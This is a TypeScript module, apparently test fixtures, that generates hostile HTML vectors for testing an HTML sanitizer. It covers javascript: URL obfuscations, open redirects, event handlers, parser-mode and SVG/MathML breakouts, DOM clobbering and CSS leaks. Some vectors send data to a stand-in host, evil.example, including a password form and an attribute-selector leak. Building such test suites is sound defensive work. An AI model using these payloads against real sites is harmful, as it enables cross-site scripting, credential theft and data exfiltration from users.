/**
 * Our own vectors for the HTML filter, by class of attack. Most are products of a few parts, because filters fail where
 * two harmless parts meet: a scheme and a spelling, a parser mode and an element that ends it.
 */
export function hostileHtml(): ReadonlyMap<string, readonly string[]> {
  return new Map<string, readonly string[]>([
    ['URLs that run code', urlsThatRunCode()],
    ['URLs that leave the origin', urlsThatLeave()],
    ['event handlers', eventHandlers()],
    ['text modes and the markup that ends them', textModes()],
    ['foreign content', foreignContent()],
    ['comments, declarations, processing instructions', bogusComments()],
    ['elements that load, send or move', activeElements()],
    ['names and ids that shadow the page', clobbering()],
    ['styles', styles()],
    ['broken tags and attributes', brokenTags()],
    ['misnested and unclosed', misnested()],
  ]);
}

/** Every combination of the two lists. */
function pairs(left: readonly string[], right: readonly string[], join: (a: string, b: string) => string): string[] {
  return left.flatMap((a) => right.map((b) => join(a, b)));
}

function urlsThatRunCode(): string[] {
  const spellings = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    '  javascript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6Aavascript&colon;alert(1)',
    'javascript&Tab;&NewLine;:alert(1)',
    '&#0000106avascript:alert(1)',
    'java&shy;script:alert(1)',
    'javascript://%0aalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'blob:https://admin.example.test/0',
    'view-source:javascript:alert(1)',
    'filesystem:https://admin.example.test/temporary/x',
  ];
  const places = [
    '<a href="@">x</a>',
    "<a href='@'>x</a>",
    '<img src="@">',
    '<a HREF = "@">x',
    '<blockquote cite="@">x',
  ];
  return pairs(places, spellings, (place, url) => place.replace('@', url));
}

function urlsThatLeave(): string[] {
  const urls = [
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    '/\n/evil.example',
    '\t//evil.example',
    '&#47;/evil.example',
    '/&#x2f;evil.example',
    '&sol;&bsol;evil.example',
    'https:evil.example',
    'https:/evil.example',
    'http://evil.example',
    '/..//evil.example',
    '/.//evil.example',
    '/%2e%2e//evil.example',
    'evil.example',
    './/evil.example',
    '?q=//evil.example',
    '/\u00a0/evil.example',
    '/\u3002evil.example',
  ];
  return pairs(['<a href="@">x</a>', '<img src="@">', '<img alt=x src=@ >'], urls, (place, url) =>
    place.replace('@', url),
  );
}

function eventHandlers(): string[] {
  const names = [
    'onclick',
    'onerror',
    'ONLOAD',
    'onpointerenter',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
  ];
  const places = [
    '<img src=/x @=alert(1)>',
    '<img/src=/x/@=alert(1)>',
    '<img src="/x"@="alert(1)">',
    '<p class=a\f@=alert(1)>x',
    '<b @>x</b>',
    '<a href=/x @ = "alert(1)">x</a>',
    '<td data-x=1 @=`alert(1)`>x',
    '<div aria-label="a" title="b" @="alert(1)" class="c">x</div>',
  ];
  return pairs(places, names, (place, name) => place.replace('@', name));
}

function textModes(): string[] {
  // Text to one parser and tags to another; each mode begins outside and ends inside an attribute.
  const modes = [
    'script',
    'style',
    'textarea',
    'title',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'noscript',
    'template',
  ];
  const shapes = [
    '<@><img src=x onerror=alert(1)></@>',
    '<@><p title="</@><img src=x onerror=alert(1)>"></@>',
    '<@><!--</@><img src=x onerror=alert(1)>--></@>',
    '<p title="<@>">x</p><p title="</@>">y</p>',
    '<@ /><img src=x onerror=alert(1)>',
    '<@></@ x="><img src=x onerror=alert(1)>">',
    '<svg><@><img src=x onerror=alert(1)></@></svg>',
  ];
  return pairs(modes, shapes, (mode, shape) => shape.replaceAll('@', mode));
}

function foreignContent(): string[] {
  const roots = ['svg', 'math'];
  const points = ['desc', 'title', 'foreignObject', 'mi', 'mtext', 'annotation-xml encoding="text/html"'];
  const inner = [
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<p><b onclick=alert(1)>x</b></p>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<table><tr><td><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  ];
  return [
    ...roots.flatMap((root) =>
      pairs(
        points,
        inner,
        (point, content) => `<${root}><${point}>${content}</${point.split(' ')[0] ?? ''}></${root}>x`,
      ),
    ),
    '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>#x" /></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml><svg><desc><a href=javascript:alert(1)>x',
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  ];
}

function bogusComments(): string[] {
  const begins = ['<!--', '<!-->', '<!--->', '<!', '<?', '</ ', '<!DOCTYPE ', '<![CDATA[', '<!--!', '<!ENTITY x '];
  const rests = [
    '<img src=x onerror=alert(1)>-->x',
    ' --!><img src=x onerror=alert(1)>',
    ']]><img src=x onerror=alert(1)>',
    '><img src=x onerror=alert(1)>',
    ' "><b onclick=alert(1)>x</b>" >',
  ];
  return pairs(begins, rests, (begin, rest) => begin + rest);
}

function activeElements(): string[] {
  return [
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/"><a href="/x">x</a>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<link rel=dns-prefetch href=//evil.example>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src=//evil.example/x.swf>',
    '<applet code=x></applet>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src=javascript:alert(1)></iframe>',
    '<frameset><frame src=javascript:alert(1)></frameset>',
    '<form action=//evil.example><input name=password><button>Save</button></form>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<input type=image src=x onerror=alert(1)>',
    '<isindex action=javascript:alert(1) type=image>',
    '<video poster=javascript:alert(1) src=x><source onerror=alert(1)></video>',
    '<audio src=//evil.example/x autoplay></audio>',
    '<img srcset="//evil.example/x 1x" src="/x">',
    '<picture><source srcset=//evil.example/x><img src=/x></picture>',
    '<a href=/x ping=//evil.example>x</a>',
    '<a href=/x target=_blank download=x.exe>x</a>',
    '<area href=javascript:alert(1)>',
    '<map name=m><area shape=default href=//evil.example></map><img usemap=#m src=/x>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<dialog open onclose=alert(1)>x</dialog>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<body background=//evil.example/x onload=alert(1)>x',
    '<table background=//evil.example/x><td background=javascript:alert(1)>x',
    '<keygen autofocus onfocus=alert(1)>',
    '<x-custom is=script onclick=alert(1)>x</x-custom>',
    '<slot name=x onslotchange=alert(1)></slot>',
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '<portal src=//evil.example></portal>',
    '<script type=importmap>{"imports":{"x":"//evil.example"}}</script>',
    '<script src=/plugins/x.js></script>',
    '<bgsound src=//evil.example/x>',
    '<plaintext><img src=x onerror=alert(1)>',
  ];
}

function clobbering(): string[] {
  const names = ['__proto__', 'constructor', 'cookie', 'getElementById', 'location', 'root'];
  const places = [
    '<p id="@">x</p>',
    '<a name="@" href="/x">x</a>',
    '<img name=@ src=/x>',
    '<div data-@="1" aria-@="2">x</div>',
    '<p @="x">x</p>',
    '<@>x</@>',
  ];
  return pairs(places, names, (place, name) => place.replaceAll('@', name));
}

function styles(): string[] {
  return [
    '<p style="background:url(//evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    '<p style="\\62\\61ckground:ur\\6c(//evil.example)">x</p>',
    '<style>@import "//evil.example/x.css";</style>',
    '<style>input[value^=a]{background:url(//evil.example/a)}</style><p>x</p>',
    '<style></style\u0000><img src=x onerror=alert(1)></style>',
    '<p class="x" STYLE="color:red" cLaSs="y">x</p>',
    '<p class="x&quot; style=&quot;color:red">x</p>',
  ];
}

function brokenTags(): string[] {
  return [
    '<img src="/x" title="a\u0000b" onerror\u0000=alert(1)>',
    '<img\u0000src=x onerror=alert(1)>',
    '<im\u0000g src=x onerror=alert(1)>',
    '<\u0000img src=x onerror=alert(1)>',
    '<<img src=x onerror=alert(1)>>',
    '<img """><script>alert(1)</script>">',
    '<img src=x"onerror="alert(1)">',
    "<img src='x'onerror=alert(1) '>",
    '<img src=`x`onerror=alert(1)>',
    '<img src onerror = alert(1) //',
    '<a href="/x" href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" href="/x">x</a>',
    '<a HREF="/x" hReF="//evil.example">x</a>',
    '<p =onclick=alert(1)>x</p>',
    '<p ="x" onclick=alert(1)>x</p>',
    '<p/onclick=alert(1)/class=x>x</p>',
    '<p\u2028onclick=alert(1)>x</p>',
    '<p\u00a0onclick=alert(1)>x</p>',
    '<p <b onclick=alert(1)>x</b></p>',
    '<p class="x',
    "<p class='x><img src=x onerror=alert(1)>",
    '<p',
    '<',
    '</',
    '<!',
    '<a href="/x" \ud800onclick=alert(1)>x\udfff</a>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\ufeff<script>alert(1)</script>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u001b$B<img src=x onerror=alert(1)>\u001b(B',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
    '<\u017fcript>alert(1)</\u017fcript>',
    '<\u212a\u0131mg src=x onerror=alert(1)>',
    '<img src=/x width=1e999 height=-1 alt>',
    '<td colspan=99999999999999999999 rowspan=-5 scope=javascript:alert(1)>x',
    '<meter value="&#x0;" min=NaN max=Infinity>x</meter>',
    '<time datetime="javascript:alert(1)">x</time>',
    '<p lang="en\u0000" dir="javascript:alert(1)" role="alert">x</p>',
  ];
}

function misnested(): string[] {
  const outer = ['a', 'b', 'table', 'select', 'form', 'p', 'button', 'svg'];
  const shapes = [
    '<@><script></@>alert(1)</script>',
    '<@ href=javascript:alert(1)><div><@ onclick=alert(1)>x</div></@></@>',
    '<table><@><tr><td></@><img src=x onerror=alert(1)></table>',
    '</@><img src=x onerror=alert(1)><@>',
    '<@><@><@><p></@><b onclick=alert(1)>x</p></b></@>',
    '<p><@><frameset onload=alert(1)></@></p><img src=/x>',
  ];
  return pairs(outer, shapes, (name, shape) => shape.replaceAll('@', name));
}
